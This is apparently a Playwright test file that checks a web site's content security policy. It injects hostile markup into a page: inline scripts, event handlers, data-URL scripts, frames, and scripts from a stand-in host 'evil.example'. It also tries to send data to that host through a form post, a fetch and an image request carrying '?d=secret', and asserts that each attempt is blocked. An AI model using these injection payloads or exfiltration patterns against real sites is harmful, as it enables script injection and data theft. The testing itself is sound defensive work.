import type { Page } from "@playwright/test";
import { expect, hydrated, test } from "./lib/test.ts";

/**
 * What the content security policy stops, should anything foreign ever get into a page (S-12 in docs/requirements.md). That
 * the site's own pages ask for nothing it refuses is shown by every other journey: the console stays silent.
 */

const FOREIGN = "https://evil.example";
const REFUSED =
  /Content Security Policy|violates the following|Failed to load resource|because it violates|ERR_BLOCKED_BY_CSP|net::ERR/i;

/** Opens the guide with this markup at the end of its head, as if somebody had found a way to put it there. */
async function openWith(page: Page, site: string, markup: string): Promise<void> {
  await page.route(`${site}/guide`, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace("</head>", `${markup}</head>`);
    await route.fulfill({ response, body });
  });
  await page.goto(`${site}/guide`);
  await hydrated(page);
}

/** The addresses elsewhere that the page asks for from now on. */
function foreignRequests(page: Page): string[] {
  const asked: string[] = [];
  page.on("requestfinished", (request) => {
    if (request.url().startsWith(FOREIGN)) asked.push(request.url());
  });
  return asked;
}

const scripts = {
  "an inline script": "<script>window.stolen = true</script>",
  "a module": '<script type="module">window.stolen = true</script>',
  "a handler": '<img src="/none.png" onerror="window.stolen = true" alt="">',
  "a script from elsewhere": `<script src="${FOREIGN}/x.js"></script>`,
  "a script in an address": '<script src="data:text/javascript,window.stolen=true"></script>',
  "a frame": `<iframe src="${FOREIGN}/" title="x"></iframe><iframe srcdoc="<script>parent.stolen = true</script>" title="y"></iframe>`,
  "an object": `<object data="${FOREIGN}/x.swf"></object><embed src="${FOREIGN}/y.swf">`,
};

for (const [name, markup] of Object.entries(scripts)) {
  test(`${name} does not run`, async ({ page, site, problems }) => {
    problems.allow(REFUSED);
    const asked = foreignRequests(page);
    const refused = page.waitForEvent("console", { predicate: (message) => REFUSED.test(message.text()) });
    await openWith(page, site, markup);
    await refused;
    expect(await page.evaluate(() => "stolen" in window)).toBe(false);
    expect(asked).toEqual([]);
  });
}

test("a base tag leads nowhere else", async ({ page, site, problems }) => {
  problems.allow(REFUSED);
  await openWith(page, site, `<base href="${FOREIGN}/">`);
  expect(await page.evaluate(() => document.baseURI)).toBe(`${site}/guide`);
});

test("a form sends nothing elsewhere", async ({ page, site, problems }) => {
  problems.allow(REFUSED);
  const asked = foreignRequests(page);
  await openWith(page, site, "");
  const directive = await page.evaluate(
    (action) =>
      new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), {
          once: true,
        });
        const form = document.createElement("form");
        form.action = `${action}/take`;
        form.method = "post";
        document.body.append(form);
        form.submit();
      }),
    FOREIGN,
  );
  expect(directive).toBe("form-action");
  expect(page.url()).toBe(`${site}/guide`);
  expect(asked).toEqual([]);
});

test("the site's own scripts reach no other site", async ({ page, site, problems }) => {
  problems.allow(REFUSED);
  await openWith(page, site, "");
  const answer = await page.evaluate(
    (url) =>
      fetch(url).then(
        () => "answered",
        () => "refused",
      ),
    FOREIGN,
  );
  expect(answer).toBe("refused");
  const picture = await page.evaluate(
    (url) =>
      new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), {
          once: true,
        });
        const image = document.createElement("img");
        image.src = `${url}/?d=secret`;
        document.body.append(image);
      }),
    FOREIGN,
  );
  expect(picture).toBe("img-src");
});
